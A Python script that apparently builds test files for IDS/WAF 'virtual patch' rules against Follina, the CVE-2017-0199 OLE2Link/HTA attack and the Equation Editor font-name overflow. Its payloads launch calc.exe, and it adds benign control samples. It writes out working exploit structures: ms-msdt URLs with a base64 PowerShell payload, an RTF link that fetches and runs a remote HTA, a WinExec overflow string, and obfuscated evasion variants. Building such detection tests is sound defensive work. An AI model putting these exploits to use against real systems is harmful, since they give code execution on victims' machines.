#!/usr/bin/env python3
"""Builds the client-side test documents for the follina, office-hta-ole2link and equation-editor
virtual patches (written after the public analyses of CVE-2022-30190, CVE-2017-0199 and
CVE-2017-11882 / CVE-2018-0802; harmless payloads: calc.exe). Usage: make-docs.py OUTDIR"""
import os, struct, sys

out = sys.argv[1]
os.makedirs(out, exist_ok=True)

def w(name, data):
    with open(os.path.join(out, name), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode("latin-1"))

# --- CVE-2022-30190 (Follina): the HTML an Office document's remote template fetches ---------------
PAD = "//" + "A" * 78 + "\n"
PARAM = ('IT_RebrowseForFile=cal?c IT_LaunchMethod=ContextMenu IT_SelectProgram=NotListed '
         'IT_BrowseForFile=h$(Invoke-Expression($(Invoke-Expression(\'[System.Text.Encoding]\'+[char]58+[char]58+'
         '\'UTF8.GetString([System.Convert]\'+[char]58+[char]58+\'FromBase64String(\'+[char]34+\'Y2FsYy5leGU=\'+[char]34+\'))\'))))'
         'i/../../../../../../../../../../../../../../Windows/System32/mpsigstub.exe')
w("follina.html", "<!doctype html>\n<html><body><script>\n" + PAD * 60 +
  'window.location.href = "ms-msdt:/id PCWDiagnostic /skip force /param \\"' + PARAM + '\\"";\n</script>\n</body></html>\n')
# case and whitespace variant, -id switch
w("follina-case.html", "<HTML><BODY><SCRIPT>\n" + PAD * 60 +
  'LOCATION.HREF =\n  "MS-MSDT:-ID   pcwdiagnostic  -SKIP force -PARAM \\"' + PARAM.upper() + '\\"";\n</SCRIPT></BODY></HTML>\n')
# the protocol name hidden with JavaScript hex escapes
w("follina-jsesc.html", "<html><body><script>\n" + PAD * 60 +
  'var u = "\\x6d\\x73\\x2d\\x6d\\x73\\x64\\x74\\x3a/id PCWDiagnostic /skip force /param \\"' + PARAM + '\\"";\n'
  'window.location.href = u;\n</script></body></html>\n')
# the protocol name hidden with HTML character references in an iframe's src
w("follina-entity.html", '<html><body>\n<iframe src="&#109;&#x73;&#45;ms&#100;t&colon;/id PCWDiagnostic /skip force /param &quot;' +
  PARAM.replace('"', "&quot;") + '&quot;"></iframe>\n</body></html>\n')
# benign: a help page about the diagnostic tool that names msdt.exe and the troubleshooter but never
# navigates to the protocol handler
w("msdt-help.html", "<html><head><title>Troubleshooting printers</title></head><body>\n"
  "<h1>Run the Microsoft Support Diagnostic Tool</h1>\n"
  "<p>Open a command prompt and run <code>msdt.exe /id PrinterDiagnostic</code>, or "
  "<code>msdt.exe /id PCWDiagnostic</code> for the Program Compatibility Troubleshooter. The tool "
  "(MSDT) collects information and sends it to support.</p>\n"
  "<p>After the June 2022 update the ms-msdt protocol handler is disabled; see KB5015805 for msdt changes.</p>\n"
  "<script>document.title = 'msdt help';</script>\n</body></html>\n")

# --- OLE1 / CFB building blocks for RTF \objdata ---------------------------------------------------
def guid(s):
    a, b, c, d, e = s.split("-")
    return struct.pack("<IHH", int(a, 16), int(b, 16), int(c, 16)) + bytes.fromhex(d + e)

def cfb(root_clsid, streams):
    """A small compound file: header, one FAT sector, one directory sector, streams in regular
    sectors (MS-CFB v3, 512-byte sectors; streams this small would normally sit in the mini stream,
    which byte-level rules see the same way when it is contiguous)."""
    data_secs = []
    entries = []
    sec = 2  # 0 = FAT, 1 = directory
    for name, body in streams:
        n = (len(body) + 511) // 512
        entries.append((name, body, sec, n))
        sec += n
    total = sec
    fat = [0xFFFFFFFD, 0xFFFFFFFE]
    for name, body, start, n in entries:
        for k in range(n):
            fat.append(start + k + 1 if k < n - 1 else 0xFFFFFFFE)
    fat += [0xFFFFFFFF] * (128 - len(fat))
    hdr = bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    hdr += b"\0" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 0x1000, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    hdr += struct.pack("<I", 0) + struct.pack("<I", 0xFFFFFFFF) * 108
    def dirent(name, typ, clsid, start, size, child=0xFFFFFFFF, right=0xFFFFFFFF):
        nm = name.encode("utf-16-le") + b"\0\0"
        return (nm.ljust(64, b"\0") + struct.pack("<HBB", len(nm), typ, 1) +
                struct.pack("<III", 0xFFFFFFFF, right, child) + clsid.ljust(16, b"\0") + b"\0" * 4 +
                b"\0" * 16 + struct.pack("<IIIHH", start, size, 0, 0, 0)[:8] + b"\0" * 4)
    d = dirent("Root Entry", 5, root_clsid, 0xFFFFFFFE, 0, child=1)
    for k, (name, body, start, n) in enumerate(entries):
        d += dirent(name, 2, b"", start, len(body), right=(k + 2 if k + 1 < len(entries) else 0xFFFFFFFF))
    d = d.ljust(512, b"\0")
    body = hdr + b"".join(struct.pack("<I", x) for x in fat) + d
    for name, data, start, n in entries:
        body += data.ljust(n * 512, b"\0")
    return body

def ole1(classname, native):
    cn = classname.encode() + b"\0"
    return (struct.pack("<II", 0x0501, 2) + struct.pack("<I", len(cn)) + cn + struct.pack("<II", 0, 0) +
            struct.pack("<I", len(native)) + native)

def hexlines(b, width=64, sep="\r\n"):
    h = b.hex()
    return sep.join(h[i:i + width] for i in range(0, len(h), width))

# --- CVE-2017-0199: RTF with an OLE2Link object whose moniker is a URL to an HTA -----------------
CLSID_STDOLELINK = guid("00000300-0000-0000-C000-000000000046")
CLSID_URLMONIKER = guid("79EAC9E0-BAF9-11CE-8C82-00AA004BA90B")
url = "http://198.18.4.2/payload.hta".encode("utf-16-le") + b"\0\0"
ole_stream = (struct.pack("<IIII", 0x02000001, 0x00000009, 0, 0) +      # OLEStream: linked object
              struct.pack("<I", 0xC6) + CLSID_URLMONIKER + struct.pack("<I", len(url)) + url +
              b"\0" * 24)
link_cfb = cfb(CLSID_STDOLELINK, [("\x01Ole", ole_stream)])
w("ole2link.rtf", "{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0 Calibri;}}\r\n"
  "{\\pard Quarterly figures\\par}\r\n"
  "{\\object\\objautlink\\objupdate\\rsltpict\\objw291\\objh230{\\*\\objclass Word.Document.8}"
  "{\\*\\objdata \r\n" + hexlines(ole1("OLE2Link", link_cfb)) + "\r\n}"
  "{\\result {\\rtlch\\fcs1 \\af31507 \\ltrch\\fcs0 \\insrsid1}}}\r\n}\r\n")
# variant: upper-case hex, the class name spelled in mixed case, hex broken by spaces and tabs
hx = ole1("oLe2LiNk", link_cfb).hex().upper()
hx = " ".join(hx[i:i + 7] for i in range(0, len(hx), 7)).replace("  ", "\t")
w("ole2link-obf.rtf", "{\\rtf1{\\object\\objautlink\\objupdate\\rsltpict{\\*\\objdata " + hx + "}}}\r\n")
w("payload.hta", "<html><head><HTA:APPLICATION ID=\"x\" WINDOWSTATE=\"minimize\">\n"
  "<script language=\"VBScript\">\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"calc.exe\"\nself.close\n</script></head></html>\n")
# benign: a normal RTF with an embedded (not linked) Paint picture object, and a normal HTML page
paint = cfb(guid("0003000A-0000-0000-C000-000000000046"), [("\x01Ole", struct.pack("<IIII", 0x02000001, 0, 0, 0)),
                                                           ("CONTENTS", b"BM" + b"\0" * 60)])
w("normal.rtf", "{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0 Calibri;}}\r\n"
  "{\\pard\\b Minutes\\b0\\par}{\\pard Linked spreadsheet values were refreshed (OLE2Link not used).\\par}\r\n"
  "{\\object\\objemb\\objw300\\objh200{\\*\\objclass Paint.Picture}{\\*\\objdata \r\n" +
  hexlines(ole1("Paint.Picture", paint)) + "\r\n}{\\result{\\pict\\wmetafile8 0100}}}\r\n}\r\n")
w("normal.html", "<!doctype html><html><head><title>Intranet</title></head><body><h1>Welcome</h1>"
  "<script>console.log('hello');</script><p>Download the <a href=\"/report.rtf\">report</a>.</p></body></html>\n")

# --- CVE-2017-11882 / CVE-2018-0802: Equation.3 with an overlong MTEF FONT name ----------------
CLSID_EQ3 = guid("0002CE02-0000-0000-C000-000000000046")
def eqnative(font_name):
    mtef = bytes([3, 1, 1, 3, 0x0a]) + bytes([0x0a, 0x01, 0x08, 0x5a, 0x5a]) + font_name + b"\0" + b"\0" * 8
    hdr = struct.pack("<HIHIIIII", 0x1c, 0x00020000, 0xc1c6, len(mtef), 0, 0, 0, 0)
    return hdr + mtef
# the public PoC's command + filler + return address into WinExec (little endian, null byte last)
evil_name = b"cmd.exe /c calc.exe AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" + b"\x12\x0c\x43"
eq_cfb = cfb(CLSID_EQ3, [("\x01Ole", struct.pack("<IIII", 0x02000001, 0, 0, 0)),
                         ("Equation Native", eqnative(evil_name))])
w("equation.rtf", "{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0 Calibri;}}\r\n"
  "{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}\\objw380\\objh260{\\*\\objdata \r\n" +
  hexlines(ole1("Equation.3", eq_cfb)) + "\r\n}{\\result{\\pict\\wmetafile8 0100}}}\r\n}\r\n")
# variant: class name in odd case, upper-case hex with spaces
hx = ole1("EqUaTiOn.3", eq_cfb).hex().upper()
w("equation-obf.rtf", "{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata " +
  " ".join(hx[i:i + 5] for i in range(0, len(hx), 5)) + "}}}\r\n")
# variant: the hex broken by RTF control words (\par) and an ignorable group, as exploit kits did
hx = ole1("Equation.3", eq_cfb).hex()
cut = hx.index("085a5a") + 20  # inside the font name
w("equation-par.rtf", "{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 01050000\\par 0200" +
  "{\\*\\tsugi x}" + hx[12:cut] + "\\par\r\n" + hx[cut:] + "}}}\r\n")
# benign: a real-looking equation (Times New Roman, Symbol) in an RTF
good_cfb = cfb(CLSID_EQ3, [("\x01Ole", struct.pack("<IIII", 0x02000001, 0, 0, 0)),
                           ("Equation Native", eqnative(b"Times New Roman") + bytes([0x08, 0x02, 0x00]) + b"Symbol\0")])
w("equation-normal.rtf", "{\\rtf1\\ansi{\\fonttbl{\\f0 Calibri;}}{\\pard Area: \\par}\r\n"
  "{\\object\\objemb{\\*\\objclass Equation.3}\\objw380\\objh260{\\*\\objdata \r\n" +
  hexlines(ole1("Equation.3", good_cfb)) + "\r\n}{\\result{\\pict\\wmetafile8 0100}}}\r\n}\r\n")
# the binary (.doc-style) form: the compound file itself, as a mail attachment or download carries it
w("equation.doc", eq_cfb)
